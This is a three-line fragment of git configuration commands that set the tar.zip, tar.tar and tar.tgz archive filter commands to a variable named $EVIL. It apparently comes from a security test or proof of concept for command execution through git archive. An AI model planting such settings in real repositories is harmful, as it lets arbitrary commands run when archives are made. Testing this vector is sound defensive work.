git config tar.zip.command "$EVIL"
git config tar.tar.command "$EVIL"
git config tar.tgz.command "$EVIL"
